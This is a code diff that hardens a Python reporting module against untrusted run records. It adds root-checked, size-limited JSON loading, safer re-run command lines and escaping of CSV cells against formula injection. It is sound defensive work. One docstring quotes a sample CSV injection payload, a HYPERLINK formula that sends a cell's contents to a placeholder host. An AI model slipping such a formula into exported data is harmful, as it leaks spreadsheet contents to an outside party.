@@ -8,7 +8,6 @@ from __future__ import annotations
 
 import dataclasses
 import datetime
-import json
 import math
 import statistics
 import warnings
@@ -21,15 +20,15 @@ import pandas as pd
 from reprobisect.errors import RecordError
 from reprobisect.model.classify import find_known
 from reprobisect.model.outcome import Outcome
-from reprobisect.model.record import Record, warm_up_steps
+from reprobisect.model.record import MAX_RECORD_BYTES, Record, warm_up_steps
 from reprobisect.model.signature import Signature
 from reprobisect.model.verdict import fold_repeats
 from reprobisect.report import archive
 from reprobisect.report.spread import quantile
 from reprobisect.util.files import atomic_path, inside
-from reprobisect.util.neutral import printable
+from reprobisect.util.neutral import command_line, printable
 from reprobisect.util.redact import redact
-from reprobisect.util.shell import shell_join
+from reprobisect.util.safe_read import UnsafeFileError, load_json_file
 
 __all__ = [
     "AXES",
@@ -37,6 +36,7 @@ __all__ = [
     "Loaded",
     "SkippedFileWarning",
     "claimed_text",
+    "csv_cell",
     "latest_runs",
     "load_bisects",
     "load_records",
@@ -136,10 +136,11 @@ def _check(record: Record, path: Path) -> None:
         raise RecordError(msg)
 
 
-def _load_one(path: Path, raw: bytes | None = None) -> Record | None:
-    """The record at ``path`` (or parsed from ``raw``, an archive's member whose place ``path`` names), checked."""
+def _load_one(path: Path, root: Path, raw: bytes | None = None) -> Record | None:
+    """The record at ``path`` under the records root ``root`` (or parsed from ``raw``, an archive's member whose place
+    ``path`` names), checked."""
     try:
-        record = Record.load(path) if raw is None else Record.parse(raw, source=path)
+        record = Record.load(path, root=root) if raw is None else Record.parse(raw, source=path)
         _check(record, path)
     except RecordError as exc:
         warnings.warn(f"skipping {exc}", SkippedFileWarning, stacklevel=3)
@@ -179,7 +180,7 @@ def load_records(roots: Sequence[Path]) -> list[Loaded]:
     for root in roots:
         base = root.resolve()
         for path, raw in _root_records(base):
-            record = _load_one(path, raw)
+            record = _load_one(path, base, raw)
             if record is None or record.run_id in seen:
                 continue
             if not inside(base, record.log_path):
@@ -237,11 +238,10 @@ def _pin(record: Record, axis: str) -> str:
 
 
 def _rerun_text(words: Sequence[str]) -> str:
-    """The record's command that re-runs it, quoted for a shell; "" when a word could break the report's code block
-    or a terminal (a control character, a line of backticks, an unreasonable length): records are untrusted."""
-    if not words or len(words) > 200 or any(len(w) > 500 or not w.isprintable() or "`" in w for w in words):
-        return ""
-    return shell_join(words)
+    """The record's command that re-runs it, on one line (``util.neutral.command_line``): quoted for a shell, or a
+    comment saying why it cannot be given (a newline or an escape sequence in an argument, an unreasonable length):
+    records are untrusted, and a neutralised command would re-run something else. "" where the record keeps none."""
+    return command_line(words) if words else ""
 
 
 def _known_now(record: Record) -> tuple[str, str]:
@@ -432,13 +432,26 @@ def _redacted(frame: pd.DataFrame) -> pd.DataFrame:
     return shown
 
 
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(text: str) -> str:
+    """A text cell as a CSV shows it: as a terminal may (``util.neutral.printable``), and, where it starts with what a
+    spreadsheet reads as a formula (``=``, ``+``, ``-``, ``@``, TAB or CR), behind a single quote (OWASP's CSV
+    injection rule): a run's message ``=HYPERLINK("http://x/?"&A1)`` must stay text."""
+    shown = printable(text)
+    return "'" + shown if text.startswith(_FORMULA_STARTS) or shown.startswith(_FORMULA_STARTS) else shown
+
+
 def write_csv(frame: pd.DataFrame, path: Path, *, what: str) -> Path:
-    """``frame`` as CSV, its text as a terminal may show it (``util.neutral.printable``): a CSV is opened in a
-    spreadsheet or printed with ``cat``, and a run's escape sequences must not act there (parquet keeps them)."""
+    """``frame`` as CSV, each text cell through :func:`csv_cell`: a CSV is opened in a spreadsheet or printed with
+    ``cat``, and a run's escape sequences or formulas must not act there (parquet keeps them). Only text cells: a
+    number column stays numeric (-3 is a number, not a formula), and a number is no text a run chose."""
     shown = _redacted(frame)
     for column in shown.columns:
         if pd.api.types.is_object_dtype(shown[column]) or pd.api.types.is_string_dtype(shown[column]):
-            shown[column] = [printable(v) if isinstance(v, str) else v for v in shown[column]]
+            shown[column] = [csv_cell(v) if isinstance(v, str) else v for v in shown[column]]
+    shown.columns = [csv_cell(str(name)) for name in shown.columns]
     with atomic_path(path, what=what) as tmp:
         shown.to_csv(tmp, index=False)
     return path
@@ -455,11 +468,11 @@ class Bisect:
     data: dict[str, Any]
 
 
-def _read_bisect(path: Path) -> Bisect | None:
+def _read_bisect(path: Path, root: Path) -> Bisect | None:
     try:
-        data = json.loads(path.read_text(encoding="utf-8"))
-    except (OSError, UnicodeDecodeError, ValueError) as exc:
-        warnings.warn(f"skipping {path}: not readable JSON ({exc})", SkippedFileWarning, stacklevel=3)
+        data = load_json_file(path, root=root, max_bytes=MAX_RECORD_BYTES)
+    except UnsafeFileError as exc:
+        warnings.warn(f"skipping {path}: not read as a bisect result ({exc.why})", SkippedFileWarning, stacklevel=3)
         return None
     missing = [k for k in _BISECT_KEYS if k not in data] if isinstance(data, dict) else ["(an object)"]
     transitions = data.get("transitions") if isinstance(data, dict) else None
@@ -472,5 +485,5 @@ def _read_bisect(path: Path) -> Bisect | None:
 
 def load_bisects(roots: Sequence[Path]) -> list[Bisect]:
     """Every ``bisect-*.json`` directly under each root; unreadable ones are skipped with a warning."""
-    found = (_read_bisect(path) for root in roots for path in sorted(root.glob("bisect-*.json")))
+    found = (_read_bisect(path, root) for root in roots for path in sorted(root.glob("bisect-*.json")))
     return [b for b in found if b is not None]
